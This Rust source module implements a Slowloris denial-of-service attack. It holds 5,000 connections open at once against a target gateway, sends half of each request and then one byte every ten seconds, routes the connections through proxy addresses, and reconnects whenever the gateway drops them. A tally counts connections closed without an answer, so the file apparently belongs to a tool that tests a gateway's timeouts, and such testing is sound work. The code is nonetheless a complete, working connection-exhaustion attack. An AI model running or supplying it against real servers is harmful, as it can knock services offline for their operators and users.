//! Slowloris: requests for a socket that stop half-way, and go on by a byte now and then.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, sleep_until};

use super::tally::Tally;
use super::{COMES_BACK_AFTER, Kind, turn};
use crate::target::Door;
use crate::wire::Way;

/// How many there are at a time: below what the gateway has room for, so that their time is what ends them.
pub(crate) const COUNT: usize = 5_000;
const BYTE_EVERY: Duration = Duration::from_secs(10);
/// A proxy's address has ports for many more; its neighbours' are as good.
const A_PROXY: usize = 100;

pub(super) fn start(door: &Door, tally: &Arc<Tally>, tasks: &mut JoinSet<Result<()>>) {
    for number in 0..COUNT {
        let (address, tally, way) = (door.address, Arc::clone(tally), Kind::HalfSent.way(number / A_PROXY));
        tasks.spawn(async move {
            turn(number, COUNT).await;
            loop {
                if let Ok(true) = hold_on(address, way, &tally).await {
                    tally.met(Kind::HalfSent);
                }
                sleep(COMES_BACK_AFTER).await;
            }
        });
    }
}

/// Holds on until the gateway lets go; whether it did so without an answer.
async fn hold_on(address: SocketAddr, way: Way, tally: &Arc<Tally>) -> Result<bool> {
    let mut stream = way.reach(address).await?;
    let _standing = tally.stand();
    let request = way.request(address).into_bytes();
    let (sent, rest) = request.split_at(request.len() / 2);
    stream.write_all(sent).await?;
    // The first one after a random part of the time: few live longer than it takes for a second one.
    let mut due = Instant::now() + BYTE_EVERY.mul_f64(rand::random());
    let mut answer = [0; 64];
    for byte in rest {
        tokio::select! {
            read = stream.read(&mut answer) => return Ok(!matches!(read, Ok(1..))),
            () = sleep_until(due) => stream.write_all(&[*byte]).await?,
        }
        due += BYTE_EVERY;
    }
    Ok(false)
}
